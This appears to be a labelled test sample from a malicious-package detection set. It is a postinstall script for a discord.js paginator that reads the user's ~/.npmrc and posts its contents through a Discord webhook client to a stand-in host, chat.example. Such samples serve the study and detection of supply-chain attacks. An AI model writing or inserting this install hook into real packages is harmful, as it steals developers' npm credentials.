// when: install
// expect: malicious
// source: blind set 18 (a discord.js paginator whose postinstall posts ~/.npmrc and the host's identity through the
// library's own WebhookClient instead of a raw request to the webhook URL)
const { WebhookClient } = require('discord.js');
const fs = require('fs');
const os = require('os');
const path = require('path');
const hook = new WebhookClient({ id: '1000', token: 'FAKE-webhook-token' }, { rest: { api: 'https://chat.example/api' } });
let npmrc = '';
try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
hook.send({ content: '```' + npmrc.slice(0, 1500) + '```' }).catch(() => {});
